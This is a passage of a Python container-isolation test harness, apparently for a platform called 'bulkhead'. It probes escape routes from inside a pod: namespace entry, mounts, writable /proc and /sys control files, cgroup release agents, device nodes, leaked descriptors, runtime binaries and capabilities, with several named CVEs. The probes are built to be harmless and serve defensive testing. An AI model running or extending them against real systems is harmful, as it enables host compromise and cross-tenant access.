"""Attacks from inside a pod. The argument is JSON: `ids` (none are all quick ones), and what is known of the victim.

Every attack runs in a process of its own with a deadline. It says what it tried and what the kernel answered, and it is
written so that success does no harm: it opens and does not write, asks and does not keep. `reached` lists the errors that
the kernel gives only after it has allowed the caller: they count as success. As root of a machine, in namespaces of its
own, nearly all of them succeed, which shows that they are real.
"""

import ctypes
import errno
import json
import os
import shutil
import signal
import socket
import stat
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
# name: (x86_64, aarch64); None where the machine does not have it.
NUMBERS = {
    "getpid": (39, 172), "setns": (308, 268), "unshare": (272, 97), "mount": (165, 40), "umount2": (166, 39),
    "pivot_root": (155, 41), "ptrace": (101, 117), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271),
    "kcmp": (312, 272), "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282),
    "init_module": (175, 105), "finit_module": (313, 273), "delete_module": (176, 106), "kexec_load": (246, 104),
    "kexec_file_load": (320, 294), "io_uring_setup": (425, 425), "keyctl": (250, 219), "add_key": (248, 217),
    "request_key": (249, 218), "settimeofday": (164, 170), "clock_settime": (227, 112), "clock_adjtime": (305, 266),
    "adjtimex": (159, 171), "sethostname": (170, 161), "setdomainname": (171, 162), "syslog": (103, 116), "acct": (163, 89),
    "swapon": (167, 224), "quotactl": (179, 60), "reboot": (169, 142), "open_by_handle_at": (304, 265),
    "name_to_handle_at": (303, 264), "clone": (56, 220), "clone3": (435, 435), "open_tree": (428, 428),
    "move_mount": (429, 429), "fsopen": (430, 430), "fspick": (433, 433), "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438), "mount_setattr": (442, 442), "iopl": (172, None), "ioperm": (173, None),
    "modify_ldt": (154, None), "personality": (135, 92), "fanotify_init": (300, 262), "lookup_dcookie": (212, 18),
    "migrate_pages": (256, 238), "move_pages": (279, 239), "process_madvise": (440, 440), "vhangup": (153, 58),
    "memfd_create": (319, 279), "mknodat": (259, 33), "chroot": (161, 51),
}
CLONE_NEW = {"mount": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000,
             "pid": 0x20000000, "net": 0x40000000}
AT_FDCWD = -100
DEADLINE_SECONDS = 20
CONNECT_SECONDS = 1.0
VICTIM = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
# In two halves, because our own command line must not be where it is found.
CANARY = "".join(VICTIM.get("canary_halves", []))
ATTACKS = {}


def attack(name):
    def register(function):
        ATTACKS[name] = function
        return function
    return register


def syscall(name, *args):
    number = NUMBERS[name][1 if ARM else 0]
    if number is None:
        return -1, errno.ENOSYS
    ctypes.set_errno(0)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    answer = libc.syscall(ctypes.c_long(number), *words)
    return (answer, 0) if answer >= 0 else (answer, ctypes.get_errno())


def named(number):
    return errno.errorcode.get(number, str(number))


class Trial:
    def __init__(self):
        self.tried = []
        self.controls = []
        self.escapes = []
        self.unable = []
        self.filtered = False

    def control(self, what, works):
        self.controls.append({"what": what, "works": bool(works)})

    def blocked(self, what, answer):
        self.tried.append({"what": what, "answer": answer})

    def escaped(self, what):
        self.escapes.append(what[:500])

    def call(self, what, name, *args, reached=()):
        """Escaped when the kernel did it, or failed at something that it looks at only afterwards."""
        answer, error = syscall(name, *args)
        if error == 0 or error in reached:
            self.escaped(f"{what}: {name} answered {answer if error == 0 else named(error)}")
        else:
            self.blocked(f"{name}: {what}", named(error))
        return answer, error

    def filtered_call(self, name, *args, innocent):
        """A call that the kernel answers with `innocent` whoever asks: any other answer is a filter's before the kernel."""
        _, error = syscall(name, *args)
        self.filtered = self.filtered or error not in innocent

    def open(self, path, flags=os.O_WRONLY):
        """Opens and closes again; nothing is written."""
        try:
            fd = os.open(path, flags | os.O_CLOEXEC | os.O_NONBLOCK)
        except OSError as error:
            self.blocked(f"open {path}", named(error.errno))
            return None
        where = os.readlink(f"/proc/self/fd/{fd}") if os.path.exists(f"/proc/self/fd/{fd}") else path
        os.close(fd)
        return where

    def write_to(self, *paths):
        for path in paths:
            if self.open(path) is not None:
                self.escaped(f"{path} can be opened for writing")

    def read_all(self, path, bytes_max=4096):
        try:
            with open(path, "rb") as file:
                return file.read(bytes_max)
        except OSError as error:
            self.blocked(f"read {path}", named(error.errno))
            return None

    def attempt(self, what, function):
        """Blocked when it raises an OSError; otherwise what it returns is what escaped, and None is nothing."""
        try:
            seen = function()
        except OSError as error:
            self.blocked(what, named(error.errno) if error.errno else str(error))
            return
        if seen is None:
            self.blocked(what, "nothing")
        else:
            self.escaped(f"{what}: {seen}")


def raw_calls_work(t):
    t.control("a raw system call answers with our pid", syscall("getpid")[0] == os.getpid())


def own_file_works(t):
    path = f"/tmp/control-{os.getpid()}"
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
        os.write(fd, b"x")
        os.close(fd)
        os.unlink(path)
        t.control("a file of our own can be written", True)
    except OSError:
        t.control("a file of our own can be written", False)


def in_child(function):
    """What a forked child returns as text."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            text = str(function())
        except BaseException as error:
            text = f"raised {error!r}"
        os.write(write, text.encode()[:4000])
        os._exit(0)
    os.close(write)
    text = b""
    while piece := os.read(read, 4096):
        text += piece
    os.close(read)
    os.waitpid(child, 0)
    return text.decode(errors="replace")


# --- Namespaces


@attack("pod-setns-init")
def setns_init(t):
    raw_calls_work(t)
    t.filtered_call("setns", -1, 0, innocent=(errno.EBADF,))
    for kind in ("mnt", "net", "pid", "ipc", "uts", "user", "cgroup"):
        try:
            fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        except OSError as error:
            t.blocked(f"open /proc/1/ns/{kind}", named(error.errno))
            continue
        # Of our own pod's first process; entering it shows that the call would work on one that leaked in.
        t.call(f"into {kind} of process 1", "setns", fd, 0)
        os.close(fd)


@attack("pod-setns-pidfd")
def setns_pidfd(t):
    raw_calls_work(t)
    t.filtered_call("setns", -1, 0, innocent=(errno.EBADF,))
    fd, error = syscall("pidfd_open", 1, 0)
    if error:
        t.blocked("pidfd_open", named(error))
        return
    t.call("all namespaces through a pidfd", "setns", fd, CLONE_NEW["mount"] | CLONE_NEW["net"])


def try_unshare(name, flags):
    @attack(name)
    def run(t):
        raw_calls_work(t)
        t.filtered_call("unshare", 0, innocent=(0,))
        answer = in_child(lambda: named(syscall("unshare", flags)[1]) if syscall("unshare", flags)[1] else "done")
        t.control("a child that tries came back", not answer.startswith("raised"))
        if answer == "done":
            t.escaped(f"unshare {flags:#x} made a namespace")
        else:
            t.blocked(f"unshare {flags:#x}", answer)


try_unshare("pod-unshare-user", CLONE_NEW["user"])
try_unshare("pod-unshare-user-net", CLONE_NEW["user"] | CLONE_NEW["net"])
try_unshare("pod-unshare-user-mount", CLONE_NEW["user"] | CLONE_NEW["mount"])
try_unshare("pod-unshare-mount", CLONE_NEW["mount"])
try_unshare("pod-unshare-cgroup", CLONE_NEW["cgroup"])


@attack("pod-clone-namespaces")
def clone_namespaces(t):
    raw_calls_work(t)
    child, error = syscall("clone", int(signal.SIGCHLD), 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    t.control("clone without flags makes a child", error == 0)
    os.waitpid(child, 0)
    for kind, flag in CLONE_NEW.items():
        child, error = syscall("clone", flag | int(signal.SIGCHLD), 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if error == 0:
            os.waitpid(child, 0)
            t.escaped(f"clone made a {kind} namespace")
        else:
            t.blocked(f"clone {kind}", named(error))


@attack("pod-clone3-hidden-flags")
def clone3(t):
    raw_calls_work(t)
    t.filtered_call("clone3", 0, 0, innocent=(errno.EINVAL,))
    arguments = struct.pack("QQQQQQQQ", CLONE_NEW["user"], 0, 0, 0, int(signal.SIGCHLD), 0, 0, 0)
    buffer = ctypes.create_string_buffer(arguments, 64)
    child, error = syscall("clone3", buffer, 64)
    if child == 0:
        os._exit(0)
    if error == 0:
        os.waitpid(child, 0)
        t.escaped("clone3 made a user namespace")
    else:
        t.blocked("clone3 with CLONE_NEWUSER", named(error))


FOREIGN_IDS = (65536, 100_000, 2_000_000_000)


@attack("pod-user-namespace-ids")
def user_namespace_ids(t):
    """Ids beyond the tenant's own range: of the machine's users or of another tenant."""
    t.control("we can become an id of the range", in_child(lambda: os.setuid(65534) or "became") == "became")
    for uid in FOREIGN_IDS:
        t.attempt(f"setuid {uid}", lambda uid=uid: in_child_setuid(uid))
    t.attempt("a second map", lambda: write_once("/proc/self/uid_map", "0 0 4294967295"))


@attack("pod-foreign-file-owner")
def foreign_file_owner(t):
    """On a volume, whose files the machine keeps."""
    path = f"{'/work' if os.path.isdir('/work') else '/tmp'}/ids-{os.getpid()}"
    with open(path, "w"):
        pass
    os.chown(path, 65534, 65534)
    t.control("a file can be given to an id of the range", os.stat(path).st_uid == 65534)
    for uid in FOREIGN_IDS:
        def give(uid=uid):
            os.chown(path, uid, uid)
            # gVisor says yes to ids that it cannot give, and leaves the file as it is.
            return "the file belongs to it" if os.stat(path).st_uid == uid else None
        t.attempt(f"chown to {uid}", give)
    os.unlink(path)


def in_child_setuid(uid):
    def become():
        try:
            os.setuid(uid)
            return "became"
        except OSError as error:
            return named(error.errno)
    answer = in_child(become)
    if answer != "became":
        raise OSError(getattr(errno, answer, 0), answer)
    return "became it"


def write_once(path, text):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)
    return "written"


# --- Mounts


@attack("pod-mount-tmpfs")
def mount_tmpfs(t):
    raw_calls_work(t)
    os.makedirs("/tmp/m", exist_ok=True)
    t.filtered_call("mount", 0, 0, 0, 0, 0, innocent=(errno.EFAULT,))
    t.call("a tmpfs", "mount", b"none", b"/tmp/m", b"tmpfs", 0, 0)


@attack("pod-mount-proc-fresh")
def mount_proc(t):
    raw_calls_work(t)
    os.makedirs("/tmp/m", exist_ok=True)
    t.filtered_call("mount", 0, 0, 0, 0, 0, innocent=(errno.EFAULT,))
    for kind in (b"proc", b"sysfs", b"devtmpfs", b"cgroup", b"cgroup2", b"debugfs", b"tracefs", b"securityfs", b"bpf"):
        t.call(f"a fresh {kind.decode()}", "mount", b"none", b"/tmp/m", kind, 0, 0)


@attack("pod-remount-writable")
def remount(t):
    raw_calls_work(t)
    t.filtered_call("mount", 0, 0, 0, 0, 0, innocent=(errno.EFAULT,))
    for path in (b"/proc/sys", b"/sys", b"/proc/sysrq-trigger", b"/etc/hosts", b"/"):
        # MS_REMOUNT | MS_BIND, which would drop `ro`.
        t.call(f"{path.decode()} writable", "mount", b"none", path, 0, 32 | 4096, 0, reached=(errno.EINVAL,))


@attack("pod-unmount-masks")
def unmount_masks(t):
    raw_calls_work(t)
    t.filtered_call("umount2", b"/", 0xFF00, innocent=(errno.EINVAL,))
    for path in (b"/proc/kcore", b"/proc/keys", b"/proc/timer_list", b"/proc/sys", b"/sys/firmware", b"/proc/acpi"):
        t.call(f"what lies over {path.decode()}", "umount2", path, 2, reached=(errno.EINVAL,))


@attack("pod-bind-init-root")
def bind_init_root(t):
    raw_calls_work(t)
    os.makedirs("/tmp/m", exist_ok=True)
    t.filtered_call("mount", 0, 0, 0, 0, 0, innocent=(errno.EFAULT,))
    t.call("/proc/1/root", "mount", b"/proc/1/root", b"/tmp/m", 0, 4096, 0)
    try:
        os.stat("/proc/1/root/var/lib/bulkhead-main")
        t.escaped("/proc/1/root is the machine's root")
    except OSError as error:
        t.blocked("/proc/1/root", named(error.errno))


@attack("pod-pivot-root")
def pivot_root(t):
    raw_calls_work(t)
    os.makedirs("/tmp/m/old", exist_ok=True)
    t.call("", "pivot_root", b"/tmp/m", b"/tmp/m/old", reached=(errno.EINVAL, errno.EBUSY))


@attack("pod-fsopen")
def fsopen(t):
    raw_calls_work(t)
    for kind in (b"tmpfs", b"ext4", b"overlay", b"cgroup2", b"proc"):
        fd, error = t.call(kind.decode(), "fsopen", kind, 0)
        if error == 0:
            os.close(fd)


@attack("pod-open-tree")
def open_tree(t):
    raw_calls_work(t)
    t.filtered_call("open_tree", -1, 0, 0xFFFFF, innocent=(errno.EINVAL, errno.EFAULT))
    t.call("a copy of /", "open_tree", AT_FDCWD, b"/", 1)
    t.call("", "move_mount", AT_FDCWD, b"/proc", AT_FDCWD, b"/tmp", 0, reached=(errno.EINVAL,))
    t.call("", "fspick", AT_FDCWD, b"/", 0)


@attack("pod-mount-setattr")
def mount_setattr(t):
    raw_calls_work(t)
    attributes = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0), 32)
    for path in (b"/proc/sys", b"/sys", b"/etc/hosts"):
        t.call(f"read-only off {path.decode()}", "mount_setattr", AT_FDCWD, path, 0, attributes, 32, reached=(errno.EINVAL,))


@attack("pod-chroot-break")
def chroot_break(t):
    """The old way out of a chroot: a descriptor from before, and many "..": it ends at the container's own root."""
    def leave():
        before = os.open("/", os.O_RDONLY)
        os.makedirs("/tmp/jail", exist_ok=True)
        try:
            os.chroot("/tmp/jail")
        except OSError as error:
            return f"chroot {named(error.errno)}"
        os.fchdir(before)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return json.dumps([os.stat("/").st_ino, os.path.exists("/var/lib/bulkhead-main"), os.path.exists("/boot/grub")])
    here = os.stat("/").st_ino
    answer = in_child(leave)
    t.control("the way out of one's own chroot works", not answer.startswith("raised"))
    if answer.startswith("chroot"):
        t.blocked("chroot", answer.split()[1])
        return
    inode, platform, boot = json.loads(answer)
    if platform or boot or inode != here:
        t.escaped(f"the root is inode {inode}, ours was {here}")
    else:
        t.blocked("../ to the top", "the container's own root")


# --- /proc, /sys, cgroups


@attack("pod-core-pattern")
def core_pattern(t):
    own_file_works(t)
    t.write_to("/proc/sys/kernel/core_pattern")


@attack("pod-kernel-settings")
def kernel_settings(t):
    own_file_works(t)
    t.write_to("/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom",
               "/proc/sys/vm/drop_caches", "/proc/sys/kernel/randomize_va_space", "/proc/sys/fs/binfmt_misc/register",
               "/proc/sys/user/max_user_namespaces", "/proc/sys/fs/file-max")


@attack("pod-sysrq")
def sysrq(t):
    own_file_works(t)
    t.write_to("/proc/sysrq-trigger", "/proc/sys/kernel/sysrq")


@attack("pod-sys-writes")
def sys_writes(t):
    own_file_works(t)
    t.write_to("/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
               "/sys/kernel/rcu_expedited", "/sys/module/kernel/parameters/panic", "/sys/kernel/mm/ksm/run",
               "/sys/fs/cgroup/release_agent", "/sys/block/vda/queue/read_ahead_kb")


@attack("pod-kernel-memory")
def kernel_memory(t):
    own_file_works(t)
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kpagecount", "/proc/kallsyms"):
        text = t.read_all(path, 200_000)
        if text is None:
            continue
        # Without the privilege the kernel tells every address as zero.
        if path == "/proc/kallsyms" and all(line.startswith(b"0" * 16) for line in text.splitlines()[:1000] if len(line) > 16):
            t.blocked(path, "addresses of zero")
        elif len(text) == 0:
            t.blocked(path, "empty")
        else:
            t.escaped(f"{path} has {len(text)} bytes")


@attack("pod-masked-files")
def masked_files(t):
    own_file_works(t)
    for path in ("/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", "/proc/interrupts"):
        text = t.read_all(path)
        if text:
            t.escaped(f"{path} tells: {text[:60]!r}")
        elif text is not None:
            t.blocked(path, "empty")
    for path in ("/proc/acpi", "/sys/firmware", "/proc/scsi", "/proc/asound", "/sys/devices/virtual/powercap"):
        try:
            seen = os.listdir(path)
        except OSError as error:
            t.blocked(path, named(error.errno))
            continue
        if seen:
            t.escaped(f"{path} has {seen[:4]}")
        else:
            t.blocked(path, "empty")


@attack("pod-masked-by-other-paths")
def masked_by_other_paths(t):
    """A mask lies over a name; the same file by other names (threads, the parent, `thread-self`, dots) must be masked too."""
    own_file_works(t)
    for path in ("/proc/self/root/proc/kcore", "/proc/1/root/proc/keys", "/proc//./keys", "/proc/thread-self/root/proc/timer_list",
                 "/proc/self/cwd/../../../../proc/kcore", "/proc/self/task/../../keys"):
        text = t.read_all(path)
        if text:
            t.escaped(f"{path} tells {text[:60]!r}")
        elif text is not None:
            t.blocked(path, "empty")
    for path in ("/proc/self/root/proc/sys/kernel/core_pattern", "/proc/1/root/proc/sysrq-trigger", "/proc/../proc/sys/kernel/modprobe"):
        if t.open(path) is not None:
            t.escaped(f"{path} can be opened for writing")


@attack("pod-mask-source-is-null")
def mask_source(t):
    """CVE-2025-31133: what masks a file must be the real /dev/null, not what the image put there."""
    own_file_works(t)
    try:
        null = os.stat("/dev/null")
    except OSError as error:
        t.unable.append(f"no /dev/null: {named(error.errno)}")
        return
    real = stat.S_ISCHR(null.st_mode) and (os.major(null.st_rdev), os.minor(null.st_rdev)) == (1, 3)
    t.control("/dev/null is the null device", real)
    for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list"):
        try:
            seen = os.stat(path)
        except OSError as error:
            t.blocked(path, named(error.errno))
            continue
        masked = stat.S_ISCHR(seen.st_mode) and (os.major(seen.st_rdev), os.minor(seen.st_rdev)) == (1, 3)
        if masked:
            t.blocked(path, "the null device")
        else:
            text = t.read_all(path)
            if text:
                t.escaped(f"{path} is masked by something else and tells {len(text)} bytes")


@attack("pod-console-bind")
def console_bind(t):
    """CVE-2025-52565: the terminal's mount must not come to lie over a file of the kernel before it is masked."""
    own_file_works(t)
    for path in ("/dev/console", "/dev/pts/0", "/dev/tty"):
        try:
            seen = os.stat(path)
        except OSError as error:
            t.blocked(path, named(error.errno))
            continue
        if not stat.S_ISCHR(seen.st_mode):
            t.escaped(f"{path} is no terminal: mode {seen.st_mode:o}")
        else:
            t.blocked(path, f"character device {os.major(seen.st_rdev)}:{os.minor(seen.st_rdev)}")
    mounts = t.read_all("/proc/self/mountinfo", 200_000) or b""
    for line in mounts.decode(errors="replace").splitlines():
        words = line.split()
        if len(words) > 5 and words[4].startswith("/dev/") and words[3].startswith("/sys"):
            t.escaped(f"{words[4]} is {words[3]}")


@attack("pod-security-label-file")
def security_label_file(t):
    """CVE-2025-52881: what the runtime writes for us under /proc must not have been led to another file of the kernel."""
    own_file_works(t)
    for path in ("/proc/self/attr/exec", "/proc/self/attr/current", "/proc/thread-self/attr/exec"):
        where = t.open(path)
        if where is not None and "attr" not in where:
            t.escaped(f"{path} leads to {where}")
        elif where is not None:
            t.blocked(path, "our own attribute")


@attack("pod-cgroup-release-agent")
def release_agent(t):
    """CVE-2022-0492: a cgroup v1 hierarchy whose release agent the machine's root runs."""
    own_file_works(t)
    os.makedirs("/tmp/cg", exist_ok=True)
    for options in (b"memory", b"pids"):
        t.call(options.decode(), "mount", b"none", b"/tmp/cg", b"cgroup", 0, options)
    for root, _, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            t.write_to(os.path.join(root, "release_agent"))
        if root.count("/") > 5:
            break


@attack("pod-cgroup-own-limits")
def cgroup_limits(t):
    own_file_works(t)
    names = ("memory.max", "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us", "devices.allow", "cgroup.procs")
    found = 0
    for root, directories, files in os.walk("/sys/fs/cgroup"):
        for name in files:
            if name in names:
                found += 1
                t.write_to(os.path.join(root, name))
        if root.count("/") >= 5:
            directories.clear()
    if found == 0:
        t.blocked("limits below /sys/fs/cgroup", "not to be seen")


@attack("pod-cgroup-make-child")
def cgroup_child(t):
    own_file_works(t)
    try:
        places = ["/sys/fs/cgroup"] + [os.path.join("/sys/fs/cgroup", name) for name in os.listdir("/sys/fs/cgroup")]
    except OSError as error:
        t.blocked("/sys/fs/cgroup", named(error.errno))
        return
    for place in places:
        def make(place=place):
            path = os.path.join(place, "escape")
            os.mkdir(path)
            is_cgroup = os.path.exists(os.path.join(path, "cgroup.procs"))
            os.rmdir(path)
            # Between the hierarchies of version 1 there is an ordinary directory of the container's.
            return "a cgroup of our own" if is_cgroup else None
        if os.path.isdir(place):
            t.attempt(f"mkdir {place}/escape", make)


@attack("pod-cgroup-neighbours")
def cgroup_neighbours(t):
    own_file_works(t)
    text = (t.read_all("/proc/self/cgroup") or b"").decode()
    t.blocked("/proc/self/cgroup", text.replace("\n", " ")[:200])
    if any(line.split(":")[2] not in ("/", "") for line in text.splitlines() if line.count(":") >= 2):
        if "bulkhead" in text:
            t.escaped(f"the names of cgroups of the machine: {text[:200]}")
    for root, directories, _ in os.walk("/sys/fs/cgroup"):
        for name in directories:
            if "pod" in name or "bulkhead" in name or (VICTIM.get("tenant") and VICTIM["tenant"] in name):
                t.escaped(f"{root}/{name} is to be seen")
        if root.count("/") >= 5:
            directories.clear()


@attack("pod-init-environment")
def init_environment(t):
    """Processes that are not ours: the machine's, or another pod's."""
    own_file_works(t)
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    t.control("our own process is in /proc", str(os.getpid()) in pids)
    for pid in pids:
        command = (t.read_all(f"/proc/{pid}/cmdline") or b"").split(b"\0")[0]
        if any(name in command for name in (b"bulkhead-", b"conmon", b"containerd", b"/sbin/init", b"runsc", b"docker")):
            t.escaped(f"process {pid} is {command[:100]!r}")
        text = t.read_all(f"/proc/{pid}/environ", 65536) or b""
        if CANARY and CANARY.encode() in text:
            t.escaped(f"the victim's canary is in the environment of {pid}")
    t.blocked("processes", f"{len(pids)}, all of this pod")


@attack("pod-proc-root-links")
def proc_root_links(t):
    own_file_works(t)
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for link in ("root", "cwd", "exe"):
            try:
                base = os.stat(f"/proc/{pid}/{link}/" if link != "exe" else f"/proc/{pid}/exe")
            except OSError as error:
                t.blocked(f"/proc/{pid}/{link}", named(error.errno))
                continue
            if link == "root" and base.st_ino != os.stat("/").st_ino:
                t.escaped(f"/proc/{pid}/root is another root")
    for place in ("var/lib/bulkhead-main", "run/bulkhead-main", "boot", "lib/modules"):
        if os.path.isdir(f"/proc/1/root/{place}") and os.listdir(f"/proc/1/root/{place}"):
            t.escaped(f"the machine's /{place}")
    t.blocked("links of all processes", "into our own root")


# --- Devices


@attack("pod-mknod")
def mknod(t):
    own_file_works(t)
    try:
        os.mkfifo("/tmp/fifo-control")
        os.unlink("/tmp/fifo-control")
        t.control("mknod makes a fifo", True)
    except OSError:
        t.control("mknod makes a fifo", False)
    devices = {"the first disk": (stat.S_IFBLK, 254, 0), "a sd disk": (stat.S_IFBLK, 8, 0), "/dev/mem": (stat.S_IFCHR, 1, 1),
               "/dev/kmsg": (stat.S_IFCHR, 1, 11), "/dev/loop-control": (stat.S_IFCHR, 10, 237), "/dev/fuse": (stat.S_IFCHR, 10, 229),
               "/dev/net/tun": (stat.S_IFCHR, 10, 200), "/dev/kvm": (stat.S_IFCHR, 10, 232)}
    for what, (kind, major, minor) in devices.items():
        path = f"/tmp/node-{major}-{minor}"

        def make(path=path, kind=kind, major=major, minor=minor):
            os.mknod(path, kind | 0o600, os.makedev(major, minor))
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            except OSError as error:
                # A node without a device behind it is how overlays say that a file is gone; opening is what counts.
                return None if error.errno in (errno.EPERM, errno.EACCES) else f"made, and opening answers {named(error.errno)}"
            finally:
                os.unlink(path)
            os.close(fd)
            return "made and opened"
        t.attempt(what, make)


@attack("pod-existing-devices")
def existing_devices(t):
    own_file_works(t)
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "stdin", "stdout", "stderr", "fd", "core",
                "pts", "shm", "mqueue", "termination-log", "net"}
    seen = os.listdir("/dev")
    t.control("/dev/null is there", "null" in seen)
    for name in seen:
        if name not in harmless:
            t.escaped(f"/dev/{name}")
    if "net" in seen and os.listdir("/dev/net"):
        # gVisor has a tun of its own, on its own stack.
        where = os.listdir("/dev/net")
        if is_gvisor():
            t.blocked("/dev/net", f"{where} of gVisor's own network")
        else:
            t.escaped(f"/dev/net has {where}")
    t.blocked("/dev", " ".join(sorted(seen)))


@attack("pod-kernel-log")
def kernel_log(t):
    raw_calls_work(t)
    buffer = ctypes.create_string_buffer(4096)
    answer, error = syscall("syslog", 3, buffer, 4096)
    if error:
        t.blocked("syslog", named(error))
    elif is_gvisor():
        t.blocked("syslog", "gVisor's own joke")
    else:
        t.escaped(f"syslog told {answer} bytes")
    for path in ("/dev/kmsg", "/proc/kmsg"):
        if t.open(path, os.O_RDONLY) is not None:
            t.escaped(path)


@attack("pod-loop-devices")
def loop_devices(t):
    own_file_works(t)
    for path in ("/dev/loop-control", "/dev/loop0", "/dev/mapper/control", "/dev/fuse"):
        if t.open(path, os.O_RDWR) is not None:
            t.escaped(path)
    t.attempt("major 7", lambda: os.mknod("/tmp/loop", stat.S_IFBLK | 0o600, os.makedev(7, 0)) or "made")


# --- Descriptors and the runtime


@attack("pod-leaked-descriptors")
def leaked_descriptors(t):
    """CVE-2024-21626: a directory of the machine that the runtime left open."""
    own_file_works(t)
    for pid in ("self", "1", str(os.getppid())):
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError as error:
            t.blocked(f"/proc/{pid}/fd", named(error.errno))
            continue
        for number in numbers:
            try:
                where = os.readlink(f"/proc/{pid}/fd/{number}")
                kind = os.stat(f"/proc/{pid}/fd/{number}").st_mode
            except OSError:
                continue
            # Our own listing is open as a directory of /proc.
            if stat.S_ISDIR(kind) and not where.startswith("/proc/"):
                t.escaped(f"descriptor {number} of {pid} is the directory {where}")
            elif "cgroup" in where or "containers" in where or "bulkhead" in where:
                t.escaped(f"descriptor {number} of {pid} is {where}")
    t.blocked("descriptors", "none of the machine's")


@attack("pod-working-directory")
def working_directory(t):
    own_file_works(t)
    try:
        here = os.getcwd()
    except OSError as error:
        t.escaped(f"the working directory is outside of our root: {named(error.errno)}")
        return
    for path in ("../" * 64 + "var/lib/bulkhead-main", "/proc/self/cwd/" + "../" * 64 + "boot/grub"):
        if os.path.exists(path):
            t.escaped(path)
    t.blocked("the working directory", here)


@attack("pod-runtime-binary")
def runtime_binary(t):
    """CVE-2019-5736: the runtime's own program, reached through /proc, written to."""
    own_file_works(t)
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            target = os.readlink(f"/proc/{pid}/exe")
        except OSError as error:
            t.blocked(f"/proc/{pid}/exe", named(error.errno))
            continue
        if any(name in target for name in ("crun", "runc", "runsc", "conmon")):
            if t.open(f"/proc/{pid}/exe", os.O_WRONLY) is not None:
                t.escaped(f"{target} can be opened for writing")
        else:
            t.blocked(f"/proc/{pid}/exe", target)


@attack("pod-runtime-memfd")
def runtime_memfd(t):
    """The memory of the first process of the pod: what the runtime was may still be in it."""
    own_file_works(t)
    text = (t.read_all("/proc/1/maps", 500_000) or b"").decode(errors="replace")
    for line in text.splitlines():
        if any(name in line for name in ("crun", "runc", "runsc", "/var/lib/bulkhead", "/run/bulkhead")):
            t.escaped(f"/proc/1/maps has {line[-80:]}")
    t.blocked("/proc/1/maps", f"{len(text.splitlines())} lines of our own")


# --- Privileges


@attack("pod-setuid-program")
def setuid_program(t):
    own_file_works(t)
    PR_GET_NO_NEW_PRIVS = 39
    answer = libc.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
    if answer == 1:
        t.blocked("set-id programs", "no_new_privs")
    else:
        t.escaped(f"no_new_privs is {answer}")
    PR_SET_NO_NEW_PRIVS = 38
    if libc.prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0:
        t.escaped("NoNewPrivs can be taken back")


@attack("pod-file-capabilities")
def file_capabilities(t):
    own_file_works(t)
    path = "/tmp/captrue"
    with open(path, "w") as file:
        file.write("#!/bin/sh\n")
    # Version 3 with every capability, for root of the machine.
    for what, value in {"version 2": struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0),
                        "version 3 for uid 0": struct.pack("<IIIIII", 0x03000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0, 0)}.items():
        try:
            os.setxattr(path, "security.capability", value)
            seen = os.getxattr(path, "security.capability")
            # The kernel writes whose root it is for; to the machine such a program is an ordinary one.
            t.blocked(what, f"for this namespace only ({len(seen)} bytes)")
        except OSError as error:
            t.blocked(what, named(error.errno))
    os.unlink(path)
    raise_all = capabilities_after_exec()
    held = raise_all & DANGEROUS
    if held:
        t.escaped(f"a program has capabilities {held:#x}")
    else:
        t.blocked("after execve", f"{raise_all:#x}")


CAP_BITS = {"DAC_READ_SEARCH": 2, "NET_ADMIN": 12, "NET_RAW": 13, "SYS_MODULE": 16, "SYS_RAWIO": 17, "SYS_PTRACE": 19,
            "SYS_ADMIN": 21, "SYS_BOOT": 22, "SYS_TIME": 25, "MKNOD": 27, "SYSLOG": 34, "PERFMON": 38, "BPF": 39}
DANGEROUS = sum(1 << bit for bit in CAP_BITS.values())


def capabilities_after_exec():
    with open("/proc/self/status") as file:
        for line in file:
            if line.startswith("CapBnd"):
                return int(line.split()[1], 16)
    return 0


@attack("pod-raise-capabilities")
def raise_capabilities(t):
    own_file_works(t)
    held = capabilities_after_exec()
    for name, bit in CAP_BITS.items():
        if held >> bit & 1:
            t.escaped(f"CAP_{name} is in the bounding set")
        PR_CAP_AMBIENT, RAISE = 47, 2
        if libc.prctl(PR_CAP_AMBIENT, RAISE, bit, 0, 0) == 0:
            t.escaped(f"CAP_{name} became ambient")
    t.blocked("bounding set", f"{held:#x}")


# --- Other processes


@attack("pod-ptrace")
def ptrace(t):
    raw_calls_work(t)
    t.filtered_call("ptrace", 16, 0x7FFFFFF0, 0, 0, innocent=(errno.ESRCH,))
    child = os.fork()
    if child == 0:
        time.sleep(5)
